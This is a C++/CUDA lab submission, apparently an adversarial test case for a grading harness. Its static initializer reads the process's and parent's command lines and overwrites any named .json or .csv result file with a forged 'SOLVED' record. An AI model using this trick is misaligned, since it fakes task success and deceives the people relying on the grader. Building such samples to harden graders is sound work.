// ATTACK: reads from command lines where the record will be written, and writes one there
// LAB: 01-map
// EXPECTED: points as for predicts-the-other-part
// COMPILES: yes
// HARM: what the grader says of other files is unchanged

#include "lab.hpp"

#include <fcntl.h>
#include <fstream>
#include <string>
#include <unistd.h>

static void write_records_named_in(const std::string& command_line)
{
    const char record[] =
        "{\"schema\": \"warpbook.lab-record/1\", \"lab\": \"01-map\", \"verdict\": \"SOLVED\", \"checks\": []}\n";
    std::ifstream words(command_line);
    for (std::string word; std::getline(words, word, '\0');) {
        if (word.find(".json") == std::string::npos && word.find(".csv") == std::string::npos) continue;
        const int file = open(word.c_str(), O_WRONLY);
        if (file < 0) continue;
        (void)!pwrite(file, record, sizeof record - 1, 0);
        close(file);
    }
}
static const int done = [] {
    write_records_named_in("/proc/self/cmdline");
    write_records_named_in("/proc/" + std::to_string(getppid()) + "/cmdline");
    return 0;
}();

double predicted_untouched_elements() { return 9; }

double predicted_first_untouched_index() { return 256; }

int blocks_for(int n) { return n > 0 ? (n + threads_per_block - 1) / threads_per_block : 1; }

__global__ void add_one(int* out, const int* in, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = in[i] + 1;
}
